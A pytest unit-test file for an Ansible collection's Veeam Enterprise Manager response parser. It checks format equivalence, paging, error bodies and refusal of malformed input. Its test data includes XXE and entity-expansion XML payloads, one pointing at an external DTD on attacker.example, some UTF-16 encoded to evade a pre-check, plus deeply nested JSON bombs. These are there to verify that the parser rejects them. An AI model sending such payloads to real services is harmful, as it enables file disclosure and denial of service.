# -*- coding: utf-8 -*-
# Unit tests of the representation layer: XML and both JSON key styles give identical dicts; namespaces,
# attribute order, empty values, error bodies; DOCTYPE/ENTITY refusal; non-EM bodies.

from __future__ import annotations

import inspect
import json
import sys

import pytest

from ansible_collections.vbr.enterprise_manager.plugins.module_utils.errors import EMProtocolError
from ansible_collections.vbr.enterprise_manager.plugins.module_utils.query_pager import paging_info, query_items
from ansible_collections.vbr.enterprise_manager.plugins.module_utils.representation import (
    canonical_key,
    excerpt,
    media_type,
    parse_response,
)
from ansible_collections.vbr.enterprise_manager.tests.unit.plugins.module_utils.em_bodies import (
    JSON,
    XML,
    entity_body,
    error_body,
    logon_body,
    query_page,
    task_session,
)

LONG_REASON = ('Error: Repository D:\\Repo1 is out of free space. Failed to write C:\\Backup\\Job 1\\{x}.vbk [offset 0x1F]; '
               'retry "2" of 3 ')

SESSIONS = [
    task_session(1),
    task_session(2, state='InProgress', result='None', ended=None, reason=''),
    task_session(3, result='Failed', reason=LONG_REASON, total_size=0, restore_point=None, vm_uid=None),
    task_session(4, state='Stopping', result='Cancelled', vm='web@01 \\ "quoted"', job='Job @ night@x'),
    task_session(5, created='2016-02-27T11:52:08Z', ended='2016-02-27T12:09:03.1234567Z', total_size=47244640256),
]


@pytest.mark.parametrize('data', SESSIONS, ids=['completed', 'running', 'failed', 'odd', 'old'])
def test_entity_is_identical_in_xml_and_both_json_styles(data):
    parsed = [parse_response(*entity_body(data, fmt)) for fmt in ('xml', 'json', 'camel')]
    assert parsed[0].root == 'BackupTaskSession'
    assert parsed[0].data == parsed[1].data == parsed[2].data
    entity = parsed[0].data
    assert entity['VmDisplayName'] == data['VmDisplayName']
    assert entity['TotalSize'] == str(data['TotalSize'])
    assert 'Reason' not in entity if not data['Reason'] else entity['Reason'] == data['Reason']
    assert ('EndTimeUTC' in entity) == (data['EndTimeUTC'] is not None)
    assert [link['Type'] for link in entity['Links']] == [link['Type'] for link in data['Links']]


def test_reason_is_kept_verbatim_with_trailing_space_and_backslashes():
    entity = parse_response(*entity_body(SESSIONS[2])).data
    assert entity['Reason'] == LONG_REASON
    assert entity['Reason'].endswith(' ')


@pytest.mark.parametrize('fmt', ['xml', 'json', 'camel'])
def test_query_page_reads_entities_and_paging(fmt):
    body, content_type = query_page(SESSIONS, page=2, pages=5, page_size=5, fmt=fmt)
    doc = parse_response(body, content_type)
    items = query_items(doc.data, 'BackupTaskSession')
    assert [i['UID'] for i in items] == [s['UID'] for s in SESSIONS]
    page_num, pages_count, next_href = paging_info(doc.data)
    assert (page_num, pages_count) == (2, 5)
    assert next_href.endswith('pageSize=5&page=3')


def test_query_pages_are_identical_across_formats():
    docs = [parse_response(*query_page(SESSIONS, page=1, pages=2, page_size=5, fmt=fmt)).data for fmt in ('xml', 'json', 'camel')]
    assert docs[0] == docs[1] == docs[2]


def test_single_item_page_is_still_a_list():
    for fmt in ('xml', 'json'):
        doc = parse_response(*query_page([SESSIONS[0]], fmt=fmt))
        items = query_items(doc.data, 'BackupTaskSession')
        assert isinstance(items, list) and len(items) == 1
        assert isinstance(items[0]['Links'], list)


def test_empty_page_has_no_items():
    for fmt in ('xml', 'json', 'camel'):
        doc = parse_response(*query_page([], fmt=fmt))
        assert query_items(doc.data, 'BackupTaskSession') == []
    empty_wrapper = ('<QueryResult xmlns="http://www.veeam.com/ent/v1.0"><Entities><BackupTaskSessions>\n  </BackupTaskSessions>'
                     '</Entities><PagingInfo PageNum="1" PageSize="10" PagesCount="1" /></QueryResult>')
    assert query_items(parse_response(empty_wrapper, XML).data, 'BackupTaskSession') == []


def test_prefixed_namespace_parses_like_the_default_namespace():
    prefixed = ('<?xml version="1.0"?><v:QueryResult xmlns:v="http://www.veeam.com/ent/v1.0"><v:Entities><v:BackupTaskSessions>'
                '<v:BackupTaskSession UID="urn:veeam:BackupTaskSession:1" VmDisplayName="a"><v:Links><v:Link Rel="Up" Href="h"/></v:Links>'
                '<v:State>Completed</v:State></v:BackupTaskSession></v:BackupTaskSessions></v:Entities></v:QueryResult>')
    default = ('<QueryResult xmlns="http://www.veeam.com/ent/v1.0" xmlns:xsd="http://www.w3.org/2001/XMLSchema"><Entities><BackupTaskSessions>'
               '<BackupTaskSession VmDisplayName="a" UID="urn:veeam:BackupTaskSession:1"><Links><Link Href="h" Rel="Up"/></Links>'
               '<State>Completed</State></BackupTaskSession></BackupTaskSessions></Entities></QueryResult>')
    a = parse_response(prefixed, 'text/xml')
    b = parse_response(default, 'application/xml')
    assert a.root == b.root == 'QueryResult'
    assert a.data == b.data
    assert a.data['Entities']['BackupTaskSessions'][0] == {
        'UID': 'urn:veeam:BackupTaskSession:1', 'VmDisplayName': 'a', 'Links': [{'Rel': 'Up', 'Href': 'h'}], 'State': 'Completed'}


def test_xsi_nil_and_empty_elements_are_dropped():
    body = ('<BackupTaskSession xmlns="http://www.veeam.com/ent/v1.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            '<EndTimeUTC xsi:nil="true" /><Reason /><State>InProgress</State><Links /></BackupTaskSession>')
    assert parse_response(body, XML).data == {'State': 'InProgress'}


def test_json_nulls_and_empty_wrappers_are_dropped():
    body = json.dumps({'Links': None, 'Refs': {'Refs': None}, 'Entities': {'BackupTaskSessions': {'BackupTaskSessions': []}},
                       'Name': None, 'Reason': '', 'TotalSize': 0, 'IsRetry': False})
    assert parse_response(body, JSON).data == {'TotalSize': '0', 'IsRetry': 'false'}


def test_json_with_utf8_bom():
    body, content_type = entity_body(SESSIONS[0], 'json')
    assert parse_response(b'\xef\xbb\xbf' + body.encode('utf-8'), content_type).data == parse_response(*entity_body(SESSIONS[0])).data


def test_logon_session_in_every_format():
    docs = [parse_response(*logon_body(fmt=fmt)) for fmt in ('xml', 'json', 'camel')]
    assert docs[0].data == docs[1].data == docs[2].data
    assert docs[0].data['SessionId'] == 'e5d8a3f0-62c1-4b9e-87d4-1a0c9f6b2e73'


@pytest.mark.parametrize('fmt', ['xml', 'json', 'camel'])
def test_error_bodies(fmt):
    doc = parse_response(*error_body('Object reference not set to an instance of an object.', 500, fmt))
    assert doc.is_error
    assert doc.error_message == 'Object reference not set to an instance of an object.'
    assert doc.data['StatusCode'] == '500'


def test_an_entity_is_not_an_error():
    assert not parse_response(*entity_body(SESSIONS[0], 'json')).is_error
    assert not parse_response(*entity_body(SESSIONS[0], 'xml')).is_error


@pytest.mark.parametrize('body', [
    '<?xml version="1.0"?><!DOCTYPE QueryResult [<!ENTITY a "aaaa">]><QueryResult>&a;</QueryResult>',
    '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>',
    '<?xml version="1.0"?>\n<!doctype r><r/>',
    '<r><!ENTITY x "y"></r>',
    ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
     '<lolz>&lol2;</lolz>'),
])
def test_doctype_and_entities_are_refused(body):
    with pytest.raises(EMProtocolError, match='document type declaration or an entity'):
        parse_response(body, XML)
    with pytest.raises(EMProtocolError, match='document type declaration or an entity'):
        parse_response(body.encode('utf-16'), XML)


def test_a_declaration_the_byte_check_cannot_see_is_refused_by_the_parser():
    # UTF-16 without a byte order mark: expat reads it, the byte-level pre-check does not see the text
    for body in ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>',
                 '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>',
                 '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'):
        with pytest.raises(EMProtocolError, match='document type declaration or an entity'):
            parse_response(body.encode('utf-16-le'), XML)


@pytest.mark.parametrize('body', [
    '[' * 100000 + ']' * 100000,
    '{"Entities": ' + '{"a": ' * 100000 + '1' + '}' * 100000 + '}',
])
def test_deeply_nested_json_is_a_protocol_error(body):
    with pytest.raises(EMProtocolError, match='nested too deeply'):
        parse_response(body, JSON)


def test_json_nested_deeper_than_the_stack_allows_is_a_protocol_error():
    # decodable by json.loads (C) yet deeper than the Python stack left for the canonical walk
    body = '{"Entities": ' + '[' * 400 + ']' * 400 + '}'
    assert parse_response(body, JSON).data == {}
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack()) + 100)
    try:
        with pytest.raises(EMProtocolError, match='nested too deeply'):
            parse_response(body, JSON)
    finally:
        sys.setrecursionlimit(limit)


@pytest.mark.parametrize('content_type, expected', [
    ('application/xml', 'xml'), ('application/xml; charset=utf-8', 'xml'), ('text/xml', 'xml'), ('application/atom+xml', 'xml'),
    ('application/json', 'json'), ('Application/JSON; charset=UTF-8', 'json'), ('text/html', None), ('', None), (None, None),
])
def test_media_type(content_type, expected):
    assert media_type(content_type) == expected


@pytest.mark.parametrize('body, content_type, text', [
    ('<html><body>Proxy login</body></html>', 'text/html', 'neither XML nor JSON'),
    ('{"a": 1}', None, "content type 'none'"),
    ('', XML, 'empty body'),
    ('   \n', JSON, 'empty body'),
    ('<QueryResult xmlns="http://www.veeam.com/ent/v1.0"><Entities>', XML, 'truncated XML'),
    ('{"Entities": ', JSON, 'truncated JSON'),
    ('[1, 2]', JSON, 'not an object'),
    ('<html><head><title>Oops</title></head><body><br></body></html>', XML, 'malformed'),
])
def test_non_em_bodies_are_protocol_errors(body, content_type, text):
    with pytest.raises(EMProtocolError, match=text):
        parse_response(body, content_type)


def test_excerpt_is_short_single_line_and_secret_free():
    html = '<html><head><title>\n 502  Bad Gateway </title></head><body>\n<p>upstream token abc123secret</p>' + 'x' * 500 + '</body></html>'
    text = excerpt(html, secrets=['abc123secret'])
    assert text.startswith('HTML page "502 Bad Gateway"')
    assert '\n' not in text and 'abc123secret' not in text
    assert len(text) <= 163


@pytest.mark.parametrize('key, canonical', [
    ('uid', 'UID'), ('UID', 'UID'), ('creationTimeUTC', 'CreationTimeUTC'), ('vmUid', 'VmUid'), ('backupTaskSessions', 'BackupTaskSessions'),
    ('pagesCount', 'PagesCount'), ('somethingNew', 'SomethingNew'), ('href', 'Href'), ('VMDISPLAYNAME', 'VmDisplayName'),
])
def test_canonical_key(key, canonical):
    assert canonical_key(key) == canonical
